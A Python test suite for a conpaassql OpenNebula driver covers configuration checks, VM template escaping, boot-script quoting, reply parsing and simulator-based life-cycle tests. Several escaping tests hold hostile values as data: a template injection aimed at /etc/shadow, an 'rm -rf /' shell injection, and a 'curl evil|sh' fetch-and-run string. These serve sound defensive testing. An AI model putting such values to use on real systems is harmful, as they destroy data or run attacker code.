"""
Tests of the OpenNebula driver (conpaassql.iaas.opennebula): settings, the
allocate template and its escaping (hostile values), the agent boot script,
reply parsing per server version (the recordings of a real 6.10 server
included) and state mapping; then the driver against the simulator over real
HTTP for the 4.14, 5.12 and 6.10 formats: the node life cycle, terminate
(with the refusal in PROLOG/BOOT handled by recover), every fault mapped to
CloudFailure, and one XML-RPC call per list() whatever the number of VMs.
One end-to-end test (slow, marked) boots a VM for real: its agent answers
over HTTP with its AGENT_TOKEN and its mariadbd RUNNING.
"""

from __future__ import annotations

import base64
import os
import secrets
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from twisted.internet import reactor
from twisted.internet.task import deferLater
from twisted.trial.unittest import SynchronousTestCase, TestCase

from conpaassql.iaas.base import (
    CloudFailure,
    DriverConfigError,
    IaaSDriver,
    NodeSpec,
    VMInfo,
    vmName,
)
from conpaassql.iaas.bootscript import BootScript, renderPlaceholders
from conpaassql.iaas.onesim import Delays
from conpaassql.iaas.onetemplate import (
    TemplateSyntaxError,
    TemplateValueError,
    parseTemplate,
    quoteValue,
    renderTemplate,
)
from conpaassql.iaas.opennebula import (
    OpenNebulaDriver,
    makeDriver,
    mapState,
    parseConfig,
    parsePool,
    parseVM,
)
from conpaassql.iaas.xmlrpcwire import WireError, decodeResponse
from conpaassql.rpc.client import RPCClient
from conpaassql.rpc.errors import RPCError
from tests.support.drivercontract import DriverContractMixin
from tests.support.mariadb import skip_unless_mariadb
from tests.support.onesim import free_port, make_driver, settings_for, start_simulator

DATA = Path(__file__).parent / "data" / "opennebula"
TAG = "svc1"


def context(nodeId: int, port: int = 60000, token: str = "tok-123") -> dict[str, str]:
    return {
        "MANAGER_URL": "http://127.0.0.1:50000/", "NODE_ID": str(nodeId), "AGENT_TOKEN": token,
        "AGENT_PORT": str(port), "SERVICE_TAG": TAG,
    }


def spec(nodeId: int, **kw: Any) -> NodeSpec:
    return NodeSpec(nodeId, vmName(TAG, nodeId), context(nodeId, **kw))


def payload(path: Path) -> str:
    return str(decodeResponse(path.read_bytes())[1])


class ConfigTests(SynchronousTestCase):
    def test_minimal(self) -> None:
        c = parseConfig(settings_for("http://one:2633/RPC2"))
        self.assertEqual((c.imageId, c.networkId, c.cpu, c.memory, c.timeout), (3, 0, "0.5", 512, 5.0))
        self.assertNotIn("s3cret", repr(c))

    def test_every_problem_at_once(self) -> None:
        with self.assertRaises(DriverConfigError) as e:
            parseConfig({
                "driver": "LOCAL", "OPENNEBULA_URL": "ftp://x", "OPENNEBULA_IMAGE_ID": "/home/x.qcow2",
                "OPENNEBULA_SIZE_ID": "1", "OPENNEBULA_MEMORY": "64", "OPENNEBULA_NETWORK_GATEWAY": "gw",
                "OPENNEBULA_TIMEOUT": "0", "AGENT_WHEEL_URL": "http://pkgs/x.whl", "BOGUS": "1",
            })
        problems = "\n".join(e.exception.problems)
        for key in ("BOGUS: unknown", "DRIVER:", "OPENNEBULA_URL:", "OPENNEBULA_USER: missing",
                    "OPENNEBULA_PASSWORD: missing", "OPENNEBULA_IMAGE_ID: must be the numeric id",
                    "OPENNEBULA_NETWORK_ID: missing", "OPENNEBULA_SIZE_ID: set together",
                    "OPENNEBULA_NETWORK_GATEWAY:", "OPENNEBULA_TIMEOUT:",
                    "AGENT_WHEEL_URL: a plain-HTTP URL needs AGENT_WHEEL_SHA256"):
            self.assertIn(key, problems)

    def test_sizes_and_keys_any_case(self) -> None:
        s = {k.lower(): v for k, v in settings_for("https://one/RPC2").items()
             if k not in ("OPENNEBULA_CPU", "OPENNEBULA_MEMORY")}
        s["opennebula_size_id"] = "2"
        c = parseConfig(s)
        self.assertEqual((c.cpu, c.vcpu, c.memory), ("2", 2, 2048))

    def test_password_file(self) -> None:
        path = self.mktemp()
        with open(path, "w") as f:
            f.write("filepass\n")
        os.chmod(path, 0o644)
        s = settings_for("http://one/RPC2")
        del s["OPENNEBULA_PASSWORD"]
        s["OPENNEBULA_PASSWORD_FILE"] = path
        with self.assertRaises(DriverConfigError) as e:
            parseConfig(s)
        self.assertIn("chmod 600", str(e.exception))
        os.chmod(path, 0o600)
        self.assertEqual(parseConfig(s).password, "filepass")

    def test_credentials_not_in_url(self) -> None:
        with self.assertRaises(DriverConfigError) as e:
            parseConfig(settings_for("http://u:p@one/RPC2"))
        self.assertIn("not the URL", str(e.exception))

    def test_make_driver_checks_tag(self) -> None:
        with self.assertRaises(DriverConfigError):
            makeDriver(settings_for("http://one/RPC2"), stateDir="x", reactor=reactor, serviceTag="Bad Tag")


_SAFE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\\$\x7f"), max_size=60
).filter(lambda v: "]]>" not in v)


class TemplateTests(SynchronousTestCase):
    """The allocate template, its escaping, and the oned-style parser."""

    def driver(self, **extra: str) -> OpenNebulaDriver:
        return makeDriver(settings_for("http://one/RPC2", **extra), stateDir="x", reactor=reactor, serviceTag=TAG)

    def test_template(self) -> None:
        d = self.driver(OPENNEBULA_NETWORK_GATEWAY="10.0.0.1", OPENNEBULA_NETWORK_NAMESERVER="10.0.0.2 10.0.0.3")
        attrs = dict(parseTemplate(d.templateFor(spec(7))))
        self.assertEqual(attrs["NAME"], "conpaassql-svc1-node-7")
        self.assertEqual((attrs["CPU"], attrs["MEMORY"]), ("0.5", "512"))
        self.assertEqual(attrs["DISK"], {"IMAGE_ID": "3"})
        self.assertEqual(attrs["NIC"], {"NETWORK_ID": "0"})
        ctx = attrs["CONTEXT"]
        assert isinstance(ctx, dict)
        for key, value in context(7).items():
            self.assertEqual(ctx[key], value)
        self.assertEqual((ctx["NETWORK"], ctx["ETH0_GATEWAY"], ctx["ETH0_DNS"]), ("YES", "10.0.0.1", "10.0.0.2 10.0.0.3"))
        script = base64.b64decode(ctx["START_SCRIPT_BASE64"]).decode()
        self.assertEqual(script, d.config.boot.script)
        self.assertTrue(script.startswith("#!/bin/sh\n"))
        self.assertNotIn("tok-123", script)  # the token travels in CONTEXT only

    def test_hostile_context_values(self) -> None:
        d = self.driver()
        hostile = '" ]\nCONTEXT = [ FILES = "/etc/shadow'
        node = NodeSpec(1, vmName(TAG, 1), {**context(1), "MANAGER_URL": hostile})
        self.assertRaises(TemplateValueError, d.templateFor, node)  # the newline
        quoted = 'a"b ] , [ C = "d'
        node = NodeSpec(1, vmName(TAG, 1), {**context(1), "MANAGER_URL": quoted})
        attrs = dict(parseTemplate(d.templateFor(node)))
        ctx = attrs["CONTEXT"]
        assert isinstance(ctx, dict)
        self.assertEqual(ctx["MANAGER_URL"], quoted)
        self.assertEqual(set(attrs), {"NAME", "CPU", "MEMORY", "VCPU", "DISK", "NIC", "LABELS", "CONTEXT"})
        for bad in ("$USER[PASSWORD]", "a\\", "x]]>y", "tab\there"):
            node = NodeSpec(1, vmName(TAG, 1), {**context(1), "MANAGER_URL": bad})
            with self.assertRaises(TemplateValueError) as e:
                d.templateFor(node)
            self.assertNotIn(bad, str(e.exception))
        self.assertRaises(TemplateValueError, d.templateFor,
                          NodeSpec(1, vmName(TAG, 1), {"START_SCRIPT_BASE64": "ZWNobw=="}))
        self.assertRaises(TemplateValueError, d.templateFor,
                          NodeSpec(1, vmName(TAG, 1), {"BAD KEY": "x"}))

    @settings(max_examples=200)
    @given(value=_SAFE_TEXT)
    def test_safe_values_round_trip(self, value: str) -> None:
        text = renderTemplate([("A", value), ("V", {"K": value, "L": "x"})])
        self.assertEqual(parseTemplate(text), [("A", value), ("V", {"K": value, "L": "x"})])

    @given(value=st.text(max_size=40))
    def test_any_value_is_refused_or_round_trips(self, value: str) -> None:
        try:
            text = renderTemplate([("A", value)])
        except TemplateValueError:
            return
        self.assertEqual(parseTemplate(text), [("A", value)])

    def test_quote(self) -> None:
        self.assertEqual(quoteValue("A", 'say "hi"'), '"say \\"hi\\""')

    def test_parser(self) -> None:
        text = 'NAME = "x" # comment\ncpu=0.5\nNIC = [ NETWORK_ID = 0, model = "virtio" ]\nE=""\n'
        self.assertEqual(parseTemplate(text), [
            ("NAME", "x"), ("CPU", "0.5"), ("NIC", {"NETWORK_ID": "0", "MODEL": "virtio"}), ("E", ""),
        ])
        self.assertRaises(TemplateSyntaxError, parseTemplate, 'A = "unterminated')
        self.assertRaises(TemplateSyntaxError, parseTemplate, 'A = "x]]>"')


class BootScriptTests(SynchronousTestCase):
    def test_placeholders_are_shell_quoted(self) -> None:
        text = renderPlaceholders("P=@AGENT_PACKAGE@\n", {"AGENT_PACKAGE": "a'; rm -rf /; '"}, source="t")
        self.assertEqual(text, "P='a'\"'\"'; rm -rf /; '\"'\"''\n")
        self.assertRaises(ValueError, renderPlaceholders, "@NOPE@", {}, source="t")

    def test_package_setting_is_checked(self) -> None:
        with self.assertRaises(DriverConfigError) as e:
            parseConfig(settings_for("http://one/RPC2", AGENT_PACKAGE="x; curl evil|sh"))
        self.assertIn("AGENT_PACKAGE", str(e.exception))

    def test_wheel_settings(self) -> None:
        c = parseConfig(settings_for("http://one/RPC2", AGENT_WHEEL_URL="http://pkgs/conpaassql-0.1.0-py3-none-any.whl",
                                     AGENT_WHEEL_SHA256="ab" * 32))
        self.assertIn("AGENT_WHEEL_SHA256=${AGENT_WHEEL_SHA256:-" + "ab" * 32 + "}", c.boot.script)

    def test_user_data(self) -> None:
        data = BootScript("#!/bin/sh\necho hi\n").userData({"AGENT_TOKEN": "it's $x", "NODE_ID": "3"})
        self.assertEqual(data, "#!/bin/sh\nexport AGENT_TOKEN='it'\"'\"'s $x'\nexport NODE_ID=3\necho hi\n")
        self.assertRaises(ValueError, BootScript("x").userData, {"A B": "1"})


class ParsingTests(SynchronousTestCase):
    """Reading VM and pool documents of every version, and mapping states."""

    def test_recorded_pool_short_body(self) -> None:
        document = payload(DATA / "run7_fresh_db_scheduler_with_nic" / "14_one.vmpool.info_running.response.xml")
        renamed = document.replace("verify-vm-1795551368", vmName(TAG, 4))
        self.assertEqual(parsePool(renamed, TAG), [
            VMInfo(vmId="1", name=vmName(TAG, 4), state="RUNNING", ip="192.168.150.10", detail="RUNNING"),
        ])
        self.assertEqual(parsePool(document, TAG), [])  # not ours

    def test_recorded_documents(self) -> None:
        cases = [
            ("run7_fresh_db_scheduler_with_nic/09_one.vm.info_pending.response.xml", "PENDING", "PENDING"),
            ("misc/run3_one.vm.info_prolog.response.xml", "PENDING", "PROLOG"),
            ("misc/run3_one.vm.info_boot.response.xml", "BOOTING", "BOOT"),
            ("run7_fresh_db_scheduler_with_nic/13_one.vm.info_running.response.xml", "RUNNING", "RUNNING"),
            ("misc/run5_one.vm.info_shutdown.response.xml", "GONE", "SHUTDOWN"),
            ("run7_fresh_db_scheduler_with_nic/21_one.vm.info_done.response.xml", "GONE", "DONE"),
            ("misc/run4_one.vm.info_boot_failure.response.xml", "FAILED",
             "BOOT_FAILURE: Tue Nov 24 20:10:08 2026: DEPLOY: dummy-host:verify-vm-1795551008:dummy"),
        ]
        for path, state, detail in cases:
            info, _, _, _ = parseVM(payload(DATA / path))
            self.assertEqual((info.state, info.detail), (state, detail), path)
        running, _, _, _ = parseVM(payload(DATA / cases[3][0]))
        self.assertEqual(running.ip, "192.168.150.10")

    def test_recorded_pool_with_failure(self) -> None:
        document = payload(DATA / "misc" / "run4_one.vmpool.info_any_state.response.xml")
        for n, name in enumerate(("verify-vm-1795551008", "verify-vm-1795551003")):
            document = document.replace(name, vmName(TAG, n))
        infos = {i.name: i for i in parsePool(document, TAG)}
        self.assertEqual(infos[vmName(TAG, 0)].state, "FAILED")
        self.assertIn("DEPLOY:", infos[vmName(TAG, 0)].detail)
        self.assertEqual((infos[vmName(TAG, 1)].state, infos[vmName(TAG, 1)].ip), ("GONE", None))

    def test_state_map(self) -> None:
        for (state, lcm), expected in {
            (1, 0): "PENDING", (2, 0): "PENDING", (10, 0): "PENDING", (3, 0): "PENDING",
            (3, 1): "PENDING", (3, 2): "BOOTING", (3, 3): "RUNNING", (3, 17): "RUNNING",
            (3, 16): "RUNNING", (3, 36): "FAILED", (3, 39): "FAILED", (3, 14): "FAILED",
            (7, 0): "FAILED", (11, 0): "FAILED", (8, 0): "FAILED", (3, 12): "GONE",
            (3, 11): "GONE", (6, 0): "GONE", (3, 23): "GONE",
        }.items():
            self.assertEqual(mapState(state, lcm)[0], expected, (state, lcm))
        self.assertEqual(mapState(3, 36, "disk full"), ("FAILED", "BOOT_FAILURE: disk full"))
        self.assertEqual(mapState(3, 99)[1], "LCM_STATE_99")

    def test_bad_documents(self) -> None:
        self.assertRaises(WireError, parsePool, "<VM/>", TAG)
        self.assertRaises(WireError, parsePool, "<VM_POOL><VM>", TAG)
        self.assertRaises(WireError, parseVM, '<!DOCTYPE v [<!ENTITY e "x">]><VM>&e;</VM>')


async def waitFor(check: Callable[[], Awaitable[bool]], what: str, timeout: float = 20) -> None:
    deadline = reactor.seconds() + timeout
    while not await check():
        if reactor.seconds() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await deferLater(reactor, 0.05)


class _DriverIntegration:
    """The driver against the simulator over real HTTP (mixed into a TestCase)."""

    version = "6.10"
    terminateAction = "terminate-hard"

    async def setUpDriver(self: Any, **kwargs: Any) -> tuple[Any, Any, OpenNebulaDriver]:
        sim, svc = await start_simulator(self, version=self.version, **kwargs)
        return sim, svc, make_driver(self, svc.url, TAG)

    async def stateOf(self, driver: OpenNebulaDriver, vmId: str) -> VMInfo | None:
        return next((v for v in await driver.list() if v.vmId == vmId), None)

    async def test_life_cycle(self: Any) -> None:
        sim, _svc, driver = await self.setUpDriver(delays=Delays(pending=0.3, prolog=0.3, boot=0.3, shutdown=0.2, epilog=0.2))
        self.assertIsInstance(driver, IaaSDriver)
        info = await driver.create(spec(1))
        self.assertEqual((info.name, info.state), (vmName(TAG, 1), "PENDING"))
        seen: list[str] = []

        async def running() -> bool:
            vm = await self.stateOf(driver, info.vmId)
            assert vm is not None
            if not seen or seen[-1] != vm.state:
                seen.append(vm.state)
            return vm.state == "RUNNING"

        await waitFor(running, "RUNNING")
        self.assertEqual(seen, ["PENDING", "BOOTING", "RUNNING"])
        vm = await self.stateOf(driver, info.vmId)
        assert vm is not None and vm.ip is not None
        self.assertTrue(vm.ip.startswith("127."))
        self.assertEqual(vm.ip, sim.vms[int(info.vmId)].ip)
        await driver.terminate(info.vmId)
        self.assertEqual(sim.calls["one.vm.action"], 1)
        self.assertEqual(sim.vms[int(info.vmId)].history[-1]["ACTION"], 28)  # the hard variant

        async def gone() -> bool:
            vm = await self.stateOf(driver, info.vmId)
            return vm is None

        await waitFor(gone, "DONE")
        await driver.terminate(info.vmId)  # already gone: fine
        self.assertEqual(sim.vms[int(info.vmId)].state, 6)

    async def test_terminate_in_prolog_and_boot(self: Any) -> None:
        sim, _svc, driver = await self.setUpDriver(delays=Delays(pending=0.05, prolog=600, boot=600))
        info = await driver.create(spec(2))

        async def inProlog() -> bool:
            return sim.vms[int(info.vmId)].lcm == 1

        await waitFor(inProlog, "PROLOG")
        await driver.terminate(info.vmId)
        self.assertEqual(sim.vms[int(info.vmId)].state, 6)
        # A VM moving into BOOT between the check and the action: the refusal
        # is handled the same way.
        info = await driver.create(spec(3))
        await waitFor(lambda: _true_when(sim.vms[int(info.vmId)].lcm == 1), "PROLOG")
        sim.vms[int(info.vmId)].lcm = 3  # looks RUNNING to the check...
        sim.failNext("one.vm.action", 0x800,
                     f'Error performing action "{self.terminateAction}": Could not terminate VM {info.vmId}, wrong state BOOT.')
        await driver.terminate(info.vmId)
        self.assertEqual(sim.vms[int(info.vmId)].state, 6)

    async def test_only_our_vms(self: Any) -> None:
        sim, svc, driver = await self.setUpDriver()
        others = sim.addForeignVMs(5, user="alice", namePrefix=f"conpaassql-{TAG}-node-")
        other = make_driver(self, svc.url, "othersvc")
        theirs = await other.create(NodeSpec(1, vmName("othersvc", 1), {}))
        mine = await driver.create(spec(1))
        listed = await driver.list()
        self.assertEqual([v.vmId for v in listed], [mine.vmId])
        for vmId in (theirs.vmId, str(others[0])):
            with self.assertRaises(CloudFailure) as e:
                await driver.terminate(vmId)
            self.assertFalse(e.exception.transient)
            self.assertIn("refusing to terminate", str(e.exception))
        self.assertEqual(sim.calls["one.vm.action"], 0)
        with self.assertRaises(CloudFailure):
            await driver.create(NodeSpec(9, vmName("othersvc", 9), {}))
        with self.assertRaises(CloudFailure):
            await driver.terminate("1; drop")

    async def test_error_replies(self: Any) -> None:
        sim, _svc, driver = await self.setUpDriver()
        sim.failNext("one.vm.allocate", 0x2000, "MEMORY attribute must be a positive integer value.")
        with self.assertRaises(CloudFailure) as e:
            await driver.create(spec(1))
        self.assertFalse(e.exception.transient)
        self.assertIn("one.vm.allocate failed", str(e.exception))
        self.assertIn("MEMORY attribute must be a positive integer value. (INTERNAL, code 8192)", str(e.exception))
        sim.failNext("one.vmpool.info", 0x8000, "The resource virtual machine is locked.")
        with self.assertRaises(CloudFailure) as e:
            await driver.list()
        self.assertTrue(e.exception.transient)
        sim.faultNext("one.vmpool.info", -506, "Method 'one.vmpool.info' not defined")
        with self.assertRaises(CloudFailure) as e:
            await driver.list()
        self.assertIn("fault -506", str(e.exception))
        self.assertFalse(e.exception.transient)

    async def test_bad_credentials(self: Any) -> None:
        _sim, svc = await start_simulator(self, version=self.version)
        driver = make_driver(self, svc.url, TAG, settings_for(svc.url, OPENNEBULA_PASSWORD="wrong"))
        with self.assertRaises(CloudFailure) as e:
            await driver.list()
        self.assertFalse(e.exception.transient)
        self.assertIn("AUTHENTICATION", str(e.exception))
        self.assertNotIn("wrong", str(e.exception))

    async def test_slow_replies_time_out(self: Any) -> None:
        sim, svc = await start_simulator(self, version=self.version)
        driver = make_driver(self, svc.url, TAG, settings_for(svc.url, OPENNEBULA_TIMEOUT="0.3"))
        sim.replyDelay = 5
        with self.assertRaises(CloudFailure) as e:
            await driver.list()
        self.assertTrue(e.exception.transient)
        self.assertIn("no answer", str(e.exception))
        sim.replyDelay = 0
        self.assertEqual(await driver.list(), [])

    async def test_refused_connections(self: Any) -> None:
        _sim, svc, driver = await self.setUpDriver()
        await driver.list()
        await svc.stopListening()  # the driver's open connection is dropped too
        with self.assertRaises(CloudFailure) as e:
            await driver.list()
        self.assertTrue(e.exception.transient)
        self.assertIn("cannot reach", str(e.exception))
        await svc.listen()
        self.assertEqual(await driver.list(), [])

    async def test_failed_and_lost_vms(self: Any) -> None:
        sim, _svc, driver = await self.setUpDriver()
        sim.failNextBoots(1)
        failing = await driver.create(spec(1))

        async def failed() -> bool:
            vm = await self.stateOf(driver, failing.vmId)
            return vm is not None and vm.state == "FAILED"

        await waitFor(failed, "FAILED")
        vm = await self.stateOf(driver, failing.vmId)
        assert vm is not None
        self.assertTrue(vm.detail.startswith("BOOT_FAILURE: "))
        await driver.terminate(failing.vmId)
        self.assertEqual(sim.vms[int(failing.vmId)].state, 6)
        lost = await driver.create(spec(2))
        sim.loseVM(int(lost.vmId))
        self.assertEqual(await driver.list(), [])
        await driver.terminate(lost.vmId)  # unknown to the server: gone

    async def test_one_call_per_list(self: Any) -> None:
        sim, _svc, driver = await self.setUpDriver(delays=Delays(pending=0.01, prolog=0.01, boot=0.01))
        sim.addForeignVMs(300, user="alice")
        await driver.list()
        created = 0
        for count in (1, 10, 100):
            while created < count:
                created += 1
                await driver.create(spec(created))
            before = sum(sim.calls.values())
            listed = await driver.list()
            self.assertEqual(len(listed), count)
            self.assertEqual(sum(sim.calls.values()) - before, 1, f"{count} VMs")
            self.assertEqual(driver.rpc.calls["one.vmpool.info"], {1: 2, 10: 3, 100: 4}[count])


def _true_when(value: bool) -> Awaitable[bool]:
    from twisted.internet.defer import succeed

    return succeed(value)


class DriverV610Tests(_DriverIntegration, TestCase):
    version = "6.10"


class DriverV512Tests(_DriverIntegration, TestCase):
    version = "5.12"


class DriverV414Tests(_DriverIntegration, TestCase):
    version = "4.14"
    terminateAction = "shutdown-hard"

    async def test_delete_action_on_4x(self) -> None:
        sim, _svc, driver = await self.setUpDriver(delays=Delays(pending=0.05, prolog=600))
        info = await driver.create(spec(1))
        await waitFor(lambda: _true_when(sim.vms[int(info.vmId)].lcm == 1), "PROLOG")
        await driver.terminate(info.vmId)
        self.assertEqual(sim.calls["one.vm.recover"], 0)
        self.assertEqual(sim.vms[int(info.vmId)].history[-1]["ACTION"], 13)  # delete


class NonAdminTests(TestCase):
    async def test_recover_refused(self) -> None:
        sim, svc = await start_simulator(self, delays=Delays(pending=0.05, prolog=600))
        driver = make_driver(self, svc.url, TAG, settings_for(svc.url, OPENNEBULA_USER="alice", OPENNEBULA_PASSWORD="alice-pass"))
        info = await driver.create(spec(1))
        await waitFor(lambda: _true_when(sim.vms[int(info.vmId)].lcm == 1), "PROLOG")
        with self.assertRaises(CloudFailure) as e:
            await driver.terminate(info.vmId)
        self.assertIn("Not authorized to perform ADMIN", str(e.exception))
        self.assertFalse(e.exception.transient)


class SlowEndToEndBootTests(TestCase):
    """
    SLOW (a real agent and mariadbd): the driver creates a VM on the
    simulator, the simulator boots it by running the rendered
    etc/agent-boot.sh.in, and the VM's agent answers get_server_state on its
    own loopback address with the node's AGENT_TOKEN, its mariadbd RUNNING.
    """

    skip = skip_unless_mariadb()
    timeout = 180

    async def test_booted_vm_agent_answers(self) -> None:
        sim, svc = await start_simulator(self, boot=True)
        driver = make_driver(self, svc.url, TAG)
        token, port = secrets.token_urlsafe(24), free_port()
        info = await driver.create(spec(1, port=port, token=token))

        async def running() -> bool:
            vm = await self.stateOfVM(driver, info.vmId)
            return vm is not None and vm.state == "RUNNING"

        await waitFor(running, "RUNNING")
        vm = await self.stateOfVM(driver, info.vmId)
        assert vm is not None and vm.ip
        client = RPCClient(f"http://{vm.ip}:{port}/", token, persistent=False, timeout=10)
        state: dict[str, Any] = {}

        async def agentRunning() -> bool:
            try:
                state.update((await client.call("get_server_state"))["return"])
            except Exception:  # noqa: BLE001 - not up yet, whatever the error
                return False
            return bool(state.get("state") == "RUNNING" and state.get("isRunningMySQL"))

        try:
            await waitFor(agentRunning, "the agent's server RUNNING", timeout=150)
        except AssertionError as e:
            raise AssertionError(f"{e}; last state {state}\n{self.vmLogs(sim.booter.vmDir(int(info.vmId)))}") from None
        # Its MariaDB listens on the VM's own address (for replication).
        from twisted.internet.endpoints import TCP4ClientEndpoint
        from twisted.internet.protocol import Factory, Protocol

        connection = await TCP4ClientEndpoint(reactor, vm.ip, int(state["mysqld_port"])).connect(
            Factory.forProtocol(Protocol)
        )
        connection.transport.loseConnection()
        wrong = RPCClient(f"http://{vm.ip}:{port}/", "not-the-token", persistent=False, timeout=10)
        with self.assertRaises(RPCError):
            await wrong.call("get_server_state")
        tokenFile = os.path.join(sim.booter.vmDir(int(info.vmId)), "root", "etc", "conpaassql", "agent-token")
        self.assertEqual(os.stat(tokenFile).st_mode & 0o777, 0o600)
        await driver.terminate(info.vmId)
        await waitFor(lambda: _true_when(not sim.booter.running), "the VM's processes to end", timeout=60)

    @staticmethod
    def vmLogs(vmDir: str) -> str:
        out = []
        for name in ("boot.log", "root/var/log/conpaassql/agent.log"):
            try:
                with open(os.path.join(vmDir, name), errors="replace") as f:
                    out.append(f"--- {name}:\n" + "".join(f.readlines()[-30:]))
            except OSError as e:
                out.append(f"--- {name}: {e}")
        return "\n".join(out)

    async def stateOfVM(self, driver: OpenNebulaDriver, vmId: str) -> VMInfo | None:
        return next((v for v in await driver.list() if v.vmId == vmId), None)



class _OpenNebulaContract(DriverContractMixin):
    """The driver contract, against the simulator (one per test) over real HTTP."""

    version = "6.10"
    runningTimeout = 20.0
    url: str

    async def setUp(self: Any) -> None:
        _sim, svc = await start_simulator(self, version=self.version)
        self.url = svc.url

    def makeTestDriver(self: Any, serviceTag: str) -> IaaSDriver:
        return make_driver(self, self.url, serviceTag)

    def unknownVmId(self, serviceTag: str) -> str:
        return "987654"  # OpenNebula ids are numbers


class OpenNebulaContractV610Tests(_OpenNebulaContract, TestCase):
    version = "6.10"


class OpenNebulaContractV414Tests(_OpenNebulaContract, TestCase):
    version = "4.14"


class RenderTests(SynchronousTestCase):
    """tools/render-cloud-templates (conpaassql.iaas.render)."""

    def test_render_opennebula(self) -> None:
        import subprocess

        from conpaassql.iaas.render import render

        passwordFile = os.path.abspath(self.mktemp())
        with open(passwordFile, "w") as f:
            f.write('pa"ss word\n')
        os.chmod(passwordFile, 0o600)
        sample = Path(__file__).parent.parent / "etc" / "manager-opennebula.cnf"
        config = os.path.abspath(self.mktemp())
        with open(config, "w") as f:
            f.write(sample.read_text().replace("/etc/conpaassql/opennebula-password", passwordFile))
        out = self.mktemp()
        paths = render(config, out)
        self.assertEqual([os.path.basename(p) for p in paths], ["agent-boot.sh", "manager-boot.sh", "manager-vm.template"])
        template = os.path.join(out, "manager-vm.template")
        self.assertEqual(os.stat(template).st_mode & 0o777, 0o600)
        lines = [line for line in Path(template).read_text().splitlines() if not line.startswith("#")]
        attrs = dict(parseTemplate("\n".join(lines)))
        self.assertEqual((attrs["NAME"], attrs["DISK"], attrs["NIC"]), ("conpaassql-manager", {"IMAGE_ID": "3"}, {"NETWORK_ID": "0"}))
        ctx = attrs["CONTEXT"]
        assert isinstance(ctx, dict)
        self.assertEqual(ctx["ONE_PASSWORD"], 'pa"ss word')
        managerConfig = base64.b64decode(ctx["MANAGER_CONFIG_BASE64"]).decode()
        self.assertIn("OPENNEBULA_PASSWORD_FILE = /etc/conpaassql/opennebula-password", managerConfig)
        self.assertNotIn(passwordFile, managerConfig)
        self.assertEqual(base64.b64decode(ctx["START_SCRIPT_BASE64"]).decode(),
                         Path(out, "manager-boot.sh").read_text())
        for script in ("agent-boot.sh", "manager-boot.sh"):
            self.assertEqual(subprocess.run(["sh", "-n", os.path.join(out, script)], check=False).returncode, 0)
            self.assertNotIn("@AGENT_PACKAGE@", Path(out, script).read_text())

    def test_render_refuses_bad_settings(self) -> None:
        from conpaassql.iaas.render import main

        config = self.mktemp()
        with open(config, "w") as f:
            f.write("[iaas]\nDRIVER = OPENNEBULA_XMLRPC\nOPENNEBULA_URL = http://one/RPC2\n")
        self.assertEqual(main(["--config", config, "--out", self.mktemp()]), 2)


def _selfSignedPEM(directory: str) -> tuple[str, str]:
    """A CA-flagged self-signed certificate for "localhost" and its key, as PEM files."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "localhost")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=5)).not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName("localhost")]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    os.makedirs(directory)
    certPath, keyPath = os.path.join(directory, "cert.pem"), os.path.join(directory, "key.pem")
    with open(certPath, "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    with open(keyPath, "wb") as f:
        f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                  serialization.NoEncryption()))
    return certPath, keyPath


class HTTPSTests(TestCase):
    """An https:// endpoint (OpenNebula behind a TLS proxy) with a private CA."""

    async def test_ca_file(self) -> None:
        from conpaassql.iaas.onesim import OneSimService

        certPath, keyPath = _selfSignedPEM(os.path.abspath(self.mktemp()))
        sim, plain = await start_simulator(self)
        tls = OneSimService(sim, f"ssl:0:interface=127.0.0.1:privateKey={keyPath}:certKey={certPath}", reactor=reactor)
        await tls.listen()
        self.addCleanup(tls.stopListening)
        port = tls.url.split(":")[2].split("/")[0]
        url = f"https://localhost:{port}/RPC2"
        trusted = make_driver(self, url, TAG, settings_for(url, OPENNEBULA_CA_FILE=certPath))
        self.assertEqual(await trusted.list(), [])
        untrusted = make_driver(self, url, TAG, settings_for(url))
        with self.assertRaises(CloudFailure) as e:
            await untrusted.list()
        self.assertIn("cannot reach", str(e.exception))
        with self.assertRaises(DriverConfigError):
            parseConfig(settings_for(plain.url, OPENNEBULA_CA_FILE=certPath))
